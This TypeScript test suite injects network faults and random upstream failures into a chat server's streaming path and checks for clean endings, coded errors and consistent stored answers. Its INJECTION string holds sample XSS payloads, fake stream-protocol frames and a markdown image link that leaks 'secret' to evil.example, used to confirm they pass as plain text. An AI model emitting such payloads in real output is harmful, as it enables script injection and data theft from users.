// Network faults on both sides of the server process, made by the fault proxy: between the server
// and the model upstream (bytes delayed, sliced into 1-byte writes, a connection gone silent or
// reset anywhere) and between the client SDK and the server (the same, where the client's resume
// and watchdog must hide them). Then upstream chaos: random upstream behaviours of the fake
// upstream (injection payloads included) crossed with random network faults, each turn checked
// for one terminal event, a coded error without provider text, a saved state that matches what
// was streamed, and no hung handler or upstream request.

import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createChatClient } from '../../sdk/create-chat-client.js';
import { createSeededRandom } from '../../sdk/test-helpers/seeded-random.js';
import {
  type Behaviour,
  type FakeUpstream,
  startFakeUpstream,
} from '../fake-upstream/fake-upstream.js';
import { type FaultPlan, type FaultProxy, startFaultProxy } from './fault-proxy.js';
import { pickSeed, scaled } from './hardening-mode.js';
import { readStoredMessages } from './read-stored-messages.js';
import { recordHardeningResult } from './record-hardening-result.js';
import { mintToken, type ServerProcess, startServerProcess } from './server-process.js';
import { type StreamTurnOutcome, streamTurn } from './stream-turn.js';
import { waitUntil } from './wait-until.js';

const FIRST_TOKEN_MS = 1500;
const IDLE_MS = 1000;
const HEARTBEAT_MS = 400;

/** Text a model might return that looks like protocol or markup: it must arrive as plain text. */
const INJECTION = [
  'data: {"type":"complete","metadata":{}}\n\n',
  'id: r1:99\nretry: 1\n\n',
  'data: [DONE]\n\n',
  '\r\n\r\nevent: error\r\n',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/leak?q=secret)',
  '"}]}\u2028\u2029',
  'שלום 📦 émoji 👩‍💻 e\u0301',
].join(' ');
/** Multi-byte text, so 1-byte slices cut inside characters. */
const WIDE = Array.from(
  { length: 40 },
  (_, i) => ['orders', 'שלום', '📦', 'émoji 👩‍💻', 'data: x'][i % 5],
).join(' ');

/** Words of the fake upstream's error bodies and of Node's network errors. */
const PROVIDER_TEXT =
  /vllm|engine dead|internal server error|maximum context|too many requests|ECONN|fetch failed|socket|undici|\bat \S+ \(|Error:/i;

const directive = (text: string, extra = '') => `[[fake:text=${encodeURIComponent(text)}${extra}]]`;

let dir: string;
let db: string;
let upstream: FakeUpstream;
/** Between the server and the upstream. */
let upstreamProxy: FaultProxy;
/** Between clients and the server. */
let clientProxy: FaultProxy;
let server: ServerProcess;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'schema-chat-net-'));
  db = join(dir, 'chat.db');
  upstream = await startFakeUpstream();
  upstreamProxy = await startFaultProxy({ target: upstream.url });
  server = await startServerProcess({
    db,
    upstreamUrl: upstreamProxy.rewrite(upstream.url),
    router: {
      limits: { streamsPerMinute: 1_000_000, requestsPerMinute: 1_000_000 },
      timeouts: {
        firstTokenMs: FIRST_TOKEN_MS,
        idleMs: IDLE_MS,
        heartbeatMs: HEARTBEAT_MS,
        disconnectGraceMs: 5000,
      },
    },
  });
  clientProxy = await startFaultProxy({ target: server.origin });
}, 30_000);
afterAll(async () => {
  const stats = await server?.stats().catch(() => undefined);
  if (server) expect(await server.stop()).toBe(0);
  await clientProxy?.close();
  await upstreamProxy?.close();
  await upstream?.close();
  rmSync(dir, { recursive: true, force: true });
  expect(stats?.unhandledRejections ?? 0).toBe(0);
  expect(stats?.errorsLogged ?? 0).toBe(0);
});

/** New plan for the upstream side, on fresh connections (the server pools them). */
async function upstreamFaults(plan: FaultPlan | ((index: number) => FaultPlan)) {
  upstreamProxy.setPlan(plan);
  upstreamProxy.dropConnections();
  await sleep(50);
}

/** One turn straight to the server, checked as the chaos test checks every turn. */
const turn = (message: string, user = 'net-user') =>
  streamTurn({
    baseUrl: server.baseUrl,
    token: mintToken(user),
    projectId: 'shop',
    message,
    timeoutMs: 20_000,
  });

/** What is wrong with a turn's stream and its saved answer. */
function turnProblems(outcome: StreamTurnOutcome): string[] {
  const problems: string[] = [];
  if (outcome.status !== 200)
    return [`HTTP ${outcome.status} ${outcome.errorBody?.error?.code ?? ''}`];
  if (outcome.closedBy !== 'end') problems.push(`the stream ended by ${outcome.closedBy} (hung?)`);
  if (outcome.terminalCount !== 1) problems.push(`${outcome.terminalCount} terminal events`);
  if (outcome.idViolations > 0) problems.push('event ids out of order');
  if (
    outcome.terminal === 'error' &&
    !/^(UPSTREAM_|CONTEXT_TOO_LONG)/.test(outcome.errorCode ?? '')
  ) {
    problems.push(`error code ${outcome.errorCode}`);
  }
  // What a user reads must never be the provider's or the runtime's own text.
  if (PROVIDER_TEXT.test(outcome.errorMessage ?? '')) {
    problems.push(`provider text in the error: ${outcome.errorMessage}`);
  }
  const rows =
    readStoredMessages(db, [outcome.conversationId ?? '']).get(outcome.conversationId ?? '') ?? [];
  const answer = rows.find((row) => row.role === 'assistant');
  if (!answer) return [...problems, 'no stored answer'];
  if (answer.content !== outcome.text)
    problems.push(`stored text differs from the streamed text (${answer.status})`);
  const expected =
    outcome.terminal === 'complete'
      ? ['complete']
      : outcome.text.length > 0
        ? ['interrupted']
        : ['failed', 'interrupted'];
  if (!expected.includes(answer.status))
    problems.push(`stored as ${answer.status} after ${outcome.terminal}`);
  return problems;
}

describe('faults between the server and the upstream', () => {
  it('relays an answer sliced into 1-byte writes intact (multi-byte characters and injection text)', async () => {
    await upstreamFaults({ toClient: { kind: 'slice' } });
    const text = `${WIDE} ${INJECTION}`;
    const outcome = await turn(`sliced ${directive(text)}`);
    expect(turnProblems(outcome)).toEqual([]);
    expect(outcome.text).toBe(text);
    expect(outcome.terminal).toBe('complete');
    expect(upstreamProxy.stats.slicedWrites).toBeGreaterThan(Buffer.byteLength(text));
  });

  it('relays an answer whose bytes are delayed intact', async () => {
    await upstreamFaults({
      toClient: { kind: 'delay', ms: 150 },
      toTarget: { kind: 'delay', ms: 150 },
    });
    const outcome = await turn(`delayed ${directive(WIDE, ',interval=20')}`);
    expect(turnProblems(outcome)).toEqual([]);
    expect(outcome.text).toBe(WIDE);
  });

  it('ends an upstream that goes silent mid-answer with UPSTREAM_TIMEOUT after the idle time, keeping the partial text', async () => {
    // Silent after the headers and a few frames: the connection stays open, nothing more comes.
    await upstreamFaults({ toClient: { kind: 'silent', afterBytes: 1200 } });
    const outcome = await turn(`silent ${directive(WIDE, ',interval=30')}`);
    expect(turnProblems(outcome)).toEqual([]);
    expect(outcome.terminal).toBe('error');
    expect(outcome.errorCode).toBe('UPSTREAM_TIMEOUT');
    expect(outcome.text.length).toBeGreaterThan(0);
    expect(WIDE.startsWith(outcome.text)).toBe(true);
    await waitUntil(
      'the silent upstream request to be closed',
      () => upstreamProxy.stats.open === 0,
      5000,
    );
  });

  it('ends an upstream that never answers with UPSTREAM_TIMEOUT after the first-token time', async () => {
    await upstreamFaults({ toClient: { kind: 'silent', afterBytes: 0 } });
    // A reference timer at half the first-token time fires before the error can come.
    let referenceFired = false;
    const reference = setTimeout(() => {
      referenceFired = true;
    }, FIRST_TOKEN_MS / 2);
    const outcome = await turn('never answered');
    clearTimeout(reference);
    expect(turnProblems(outcome)).toEqual([]);
    expect(outcome.errorCode).toBe('UPSTREAM_TIMEOUT');
    expect(referenceFired, 'not before the first-token time').toBe(true);
  });

  it('ends an upstream connection reset mid-answer with a coded error and the partial text saved', async () => {
    await upstreamFaults({ toClient: { kind: 'reset', afterBytes: 1500 } });
    const outcome = await turn(`reset ${directive(WIDE, ',interval=10')}`);
    expect(turnProblems(outcome)).toEqual([]);
    expect(outcome.terminal).toBe('error');
    expect(outcome.errorCode).toBe('UPSTREAM_UNAVAILABLE');
    expect(WIDE.startsWith(outcome.text)).toBe(true);
  });
});

describe('faults between the client and the server', () => {
  const client = () =>
    createChatClient({
      baseUrl: clientProxy.rewrite(server.baseUrl),
      token: mintToken('net-client'),
      heartbeatMs: HEARTBEAT_MS,
      retry: { baseDelayMs: 5, maxDelayMs: 50 },
    });
  const clientFaults = async (plan: FaultPlan | ((index: number) => FaultPlan)) => {
    await upstreamFaults({});
    clientProxy.setPlan(plan);
    clientProxy.dropConnections();
    await sleep(50);
  };

  it('streams through 1-byte writes with the text identical and one generation', async () => {
    await clientFaults({ toClient: { kind: 'slice' }, toTarget: { kind: 'slice' } });
    const calls = upstream.calls.count;
    const text = `${WIDE} ${INJECTION}`;
    let deltas = '';
    const result = await client().stream(
      { projectId: 'shop', message: `client sliced ${directive(text)}` },
      { onToken: (delta) => (deltas += delta) },
    ).result;
    expect(result.content).toBe(text);
    expect(deltas).toBe(text);
    expect(upstream.calls.count - calls).toBe(1);
  });

  it('resumes through the watchdog when the connection goes silent mid-answer, text identical, one generation', async () => {
    // The next connection goes quiet after a few frames; the reconnect passes.
    let silenced = false;
    await clientFaults(() => {
      if (silenced) return {};
      silenced = true;
      return { toClient: { kind: 'silent', afterBytes: 900 } };
    });
    const calls = upstream.calls.count;
    const retries: string[] = [];
    const result = await client().stream(
      { projectId: 'shop', message: `client silent ${directive(WIDE, ',interval=25')}` },
      { onRetry: (info) => retries.push(info.reason) },
    ).result;
    expect(result.content).toBe(WIDE);
    expect(retries).toContain('STREAM_TIMEOUT');
    expect(upstream.calls.count - calls).toBe(1);
    expect(clientProxy.stats.silenced).toBeGreaterThanOrEqual(1);
  });

  it('streams through delayed bytes with the text identical', async () => {
    await clientFaults({ toClient: { kind: 'delay', ms: 100 } });
    const result = await client().stream({
      projectId: 'shop',
      message: `client delayed ${directive(WIDE)}`,
    }).result;
    expect(result.content).toBe(WIDE);
  });
});

describe('upstream chaos', () => {
  const turns = scaled(40, 200);
  it(
    `${turns} turns with random upstream behaviours and network faults: one terminal, a coded error, the saved state matching the stream, nothing left hanging`,
    async () => {
      const random = createSeededRandom(pickSeed('network-faults'));
      const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
      const behaviours: Array<() => Behaviour> = [
        () => ({ kind: 'normal', text: WIDE, intervalMs: 3 }),
        () => ({ kind: 'normal', text: INJECTION, splitUtf8: true }),
        () => ({ kind: 'normal', tokens: 30, firstTokenDelayMs: Math.floor(random() * 800) }),
        () => ({ kind: 'normal', tokens: 200, intervalMs: 1 }),
        () => ({ kind: 'huge-delta', bytes: 256 * 1024, tokens: 3 }),
        () => ({ kind: 'stall', afterTokens: Math.floor(random() * 10), tokens: 20 }),
        () => ({ kind: 'reset', afterTokens: Math.floor(random() * 10), tokens: 20 }),
        () => ({ kind: 'malformed', afterTokens: Math.floor(random() * 10), tokens: 20 }),
        () => ({ kind: 'no-done', afterTokens: Math.floor(random() * 20), tokens: 20 }),
        () => ({ kind: 'status', status: pick([500, 502, 503]) }),
        () => ({ kind: 'status', status: 429, retryAfter: 0 }),
        () => ({ kind: 'context-length', flavour: pick(['vllm', 'openai'] as const) }),
      ];
      const faults: Array<() => FaultPlan> = [
        () => ({}),
        () => ({}),
        () => ({ toClient: { kind: 'slice' } }),
        () => ({ toClient: { kind: 'delay', ms: Math.floor(random() * 200) } }),
        () => ({ toClient: { kind: 'reset', afterBytes: Math.floor(random() * 6000) } }),
        () => ({ toClient: { kind: 'silent', afterBytes: Math.floor(random() * 6000) } }),
        () => ({ toTarget: { kind: 'reset', afterBytes: Math.floor(random() * 3000) } }),
      ];
      upstream.script(() => pick(behaviours)());
      await upstreamFaults(() => pick(faults)());
      const problems: string[] = [];
      const terminals = new Map<string, number>();
      const limit = FIRST_TOKEN_MS + IDLE_MS * 2 + 5000;
      // Four at a time, as several users would.
      for (let i = 0; i < turns; i += 4) {
        const batch = await Promise.all(
          Array.from({ length: Math.min(4, turns - i) }, (_, j) =>
            turn(`chaos turn ${i + j}`, `chaos-user-${j}`),
          ),
        );
        batch.forEach((outcome, j) => {
          const label =
            outcome.terminal === 'complete' ? 'complete' : (outcome.errorCode ?? outcome.closedBy);
          terminals.set(label, (terminals.get(label) ?? 0) + 1);
          for (const problem of turnProblems(outcome)) problems.push(`turn ${i + j}: ${problem}`);
          if (outcome.durationMs > limit)
            problems.push(`turn ${i + j}: took ${Math.round(outcome.durationMs)} ms`);
        });
      }
      upstream.script(() => ({ kind: 'normal' }));
      // Nothing left behind: no run, no upstream request, no proxied connection in use.
      await waitUntil(
        'the server to hold no running answer',
        async () => (await server.stats()).activeRuns === 0,
      );
      await waitUntil('every upstream request to end', () => upstream.calls.open === 0, 10_000);
      recordHardeningResult({
        suite: 'network-faults',
        check: 'upstream chaos: random behaviours × random network faults',
        tried: turns,
        unit: 'turns',
        failures: problems.length,
        figures: {
          endings: [...terminals]
            .sort((a, b) => b[1] - a[1])
            .map(([name, n]) => `${name} ${n}`)
            .join(', '),
        },
      });
      expect(problems.slice(0, 20)).toEqual([]);
    },
    scaled(90_000, 400_000),
  );
});
